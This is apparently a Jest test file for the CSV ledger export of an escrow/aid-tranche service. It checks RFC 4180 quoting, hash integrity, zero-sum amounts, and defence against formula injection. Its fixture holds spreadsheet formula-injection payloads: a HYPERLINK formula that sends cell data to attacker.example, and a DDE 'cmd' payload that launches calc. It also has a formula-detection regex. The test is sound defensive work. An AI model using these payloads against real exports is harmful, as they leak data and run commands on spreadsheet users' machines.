import { parse } from 'csv-parse/sync';
import { Decimal } from '../../src/common/money/money';
import { sha256 } from '../../src/ledger/canonical-body';
import { csvCell } from '../../src/ledger/journal-export';
import { JournalTransactionView } from '../../src/ledger/journal-reader.service';
import { startTestApp, TestApp, TestPrincipal } from '../support/test-app';
import { createCast, allocate } from '../support/workflow';

type Row = Record<string, string>;

/** RFC 4180 as csv-parse reads it: CRLF between records, quoted fields, a header line. */
function parseExport(text: string): Row[] {
  return parse(text, { columns: true, record_delimiter: '\r\n', relax_quotes: false, relax_column_count: false, skip_empty_lines: false });
}

describe('CSV export: readable fields, the canonical body, RFC 4180, no formulas', () => {
  let t: TestApp;
  let auditor: TestPrincipal;
  let rows: Row[];
  let text: string;
  let items: JournalTransactionView[];

  const tricky = {
    name: 'Relief, "Recovery" & Co',
    reference: '=HYPERLINK("http://attacker.example/?"&A1,"open")',
    evidence: 'site visit, 14 March\n"signed" report, page 2\n\nannex',
    formulaEvidence: '\t=cmd|\' /C calc\'!A0',
    reason: '+SUM(1,2)',
    comment: '@invoices, "missing"',
    minusReason: '-2+3',
  };

  beforeAll(async () => {
    t = await startTestApp();
    const cast = await createCast(t);
    auditor = cast.auditor;
    const post = async (who: TestPrincipal, url: string, body: object, status = 201) => {
      const res = await t.http().post(url).set(who.auth).send(body);
      expect({ url, status: res.status, body: res.body }).toMatchObject({ url, status });
      return res;
    };
    const escrow = (await post(cast.admin, '/v1/escrow-accounts', { name: tricky.name, currency: 'USD' })).body.id;
    await post(cast.donorA, `/v1/escrow-accounts/${escrow}/deposits`, { amount: '1000.00', reference: tricky.reference });
    const tranche = await allocate(t, cast.donorA, escrow, { amount: '100.00', recipientOrganizationId: cast.recipientId });
    const benchmark = (await post(cast.admin, `/v1/tranches/${tranche}/benchmarks`, { kind: 'anti_corruption', description: 'audit' })).body.id;
    await post(cast.monitors[0], `/v1/benchmarks/${benchmark}/signoffs`, { decision: 'approve', evidence: tricky.evidence });
    await post(cast.monitors[1], `/v1/benchmarks/${benchmark}/signoffs`, { decision: 'approve', evidence: tricky.formulaEvidence });
    await post(cast.monitors[2], `/v1/benchmarks/${benchmark}/signoffs`, { decision: 'reject', comment: tricky.comment });
    await post(cast.monitors[0], `/v1/escrow-accounts/${escrow}/suspend`, { reason: tricky.reason }, 200);
    await post(cast.admin, `/v1/escrow-accounts/${escrow}/resume`, { reason: tricky.minusReason }, 200);
    await t.seal();

    const res = await t.http().get('/v1/ledger/export?format=csv').set(auditor.auth).buffer(true).parse((r, done) => {
      let body = '';
      r.setEncoding('utf8');
      r.on('data', (c: string) => (body += c));
      r.on('end', () => done(null, body));
    }).expect(200);
    text = res.body as string;
    rows = parseExport(text);
    items = (await t.http().get('/v1/ledger/transactions?limit=1000').set(auditor.auth).expect(200)).body.items;
  });
  afterAll(() => t?.close());

  const rowsOf = (kind: string) => rows.filter((r) => r.kind === kind);

  it('ends every record with CRLF; line breaks appear only inside quoted fields', () => {
    expect(text.endsWith('\r\n')).toBe(true);
    // Outside quotes every LF follows a CR: remove the quoted fields and look.
    const unquoted = text.replace(/"(?:[^"]|"")*"/g, '""');
    expect(unquoted.match(/(?<!\r)\n/g)).toBeNull();
    expect(unquoted.split('\r\n').length - 1).toBe(rows.length + 1);
  });

  it('carries each transaction\'s canonical body, which re-hashes to contentHash', () => {
    expect(new Set(rows.map((r) => r.id)).size).toBe(items.length);
    for (const row of rows) {
      expect(sha256(Buffer.from(row.body, 'utf8')).toString('hex')).toBe(row.contentHash);
      expect(JSON.parse(row.body).id).toBe(row.id);
    }
  });

  it('round-trips commas, quotes and newlines through csv-parse in the readable columns', () => {
    const opened = rowsOf('escrow_opened').find((r) => r.name === tricky.name)!;
    expect(opened).toBeDefined();
    expect(opened.escrowAccountId).toBe(JSON.parse(opened.body).escrowAccountId);
    expect(JSON.parse(opened.details)).toMatchObject({ name: tricky.name, currency: 'USD' });
    const evidence = rowsOf('benchmark_signoff').map((r) => r.evidence);
    expect(evidence).toContain(tricky.evidence);
    // refs and details are the body's own, as JSON.
    const deposit = rowsOf('deposit')[0];
    expect(JSON.parse(deposit.refs)).toEqual(JSON.parse(deposit.body).refs);
  });

  it('neutralizes formula-looking free text with an apostrophe; JSON cells start with "{" and need none', () => {
    expect(rowsOf('deposit').map((r) => r.reference)).toEqual([`'${tricky.reference}`, `'${tricky.reference}`]);
    expect(rowsOf('benchmark_signoff').map((r) => r.evidence)).toContain(`'${tricky.formulaEvidence}`);
    expect(rowsOf('benchmark_signoff').map((r) => r.comment)).toContain(`'${tricky.comment}`);
    expect(rowsOf('escrow_suspended')[0].reason).toBe(`'${tricky.reason}`);
    expect(rowsOf('escrow_resumed')[0].reason).toBe(`'${tricky.minusReason}`);
    // The exact text stays in details and body, which a spreadsheet shows as text.
    expect(JSON.parse(rowsOf('deposit')[0].details).reference).toBe(tricky.reference);
    for (const row of rows) {
      for (const [column, cell] of Object.entries(row)) {
        if (['amount', 'balanceAfter'].includes(column) && /^-\d+(\.\d+)?$/.test(cell)) continue;
        expect({ column, cell, formula: /^[=+\-@\t\r\0]/.test(cell) }).toEqual({ column, cell, formula: false });
      }
    }
  });

  it('keeps amounts numbers: negative legs unprefixed, and each transaction sums to zero', () => {
    const legs = rowsOf('deposit');
    expect(legs.map((r) => r.amount).sort()).toEqual(['-1000.00', '1000.00']);
    const sums = new Map<string, Decimal>();
    for (const row of rows.filter((r) => r.amount !== '')) sums.set(row.id, (sums.get(row.id) ?? new Decimal(0)).plus(row.amount));
    expect(sums.size).toBeGreaterThan(1);
    for (const sum of sums.values()) expect(sum.isZero()).toBe(true);
  });
});

describe('csvCell', () => {
  it('quotes per RFC 4180 and leaves plain text alone', () => {
    expect(csvCell('plain')).toBe('plain');
    expect(csvCell('a,b')).toBe('"a,b"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell('two\nlines')).toBe('"two\nlines"');
    expect(csvCell('cr\r')).toBe('"cr\r"');
    expect(csvCell(null)).toBe('');
    expect(csvCell(undefined)).toBe('');
  });

  it('prefixes text that starts like a formula, and numbers only when they are not plain decimals', () => {
    for (const start of ['=', '+', '-', '@', '\t', '\0']) expect(csvCell(`${start}1+1`)).toBe(`'${start}1+1`);
    expect(csvCell('\r=1')).toBe(`"'\r=1"`);
    expect(csvCell('-100.00')).toBe(`'-100.00`); // as text (a reason, say) it is neutralized
    expect(csvCell('-100.00', true)).toBe('-100.00'); // as an amount it stays a number
    expect(csvCell(-5, true)).toBe('-5');
    expect(csvCell('-1+2', true)).toBe(`'-1+2`);
    expect(csvCell('{"a":"=1"}')).toBe('"{""a"":""=1""}"');
  });
});
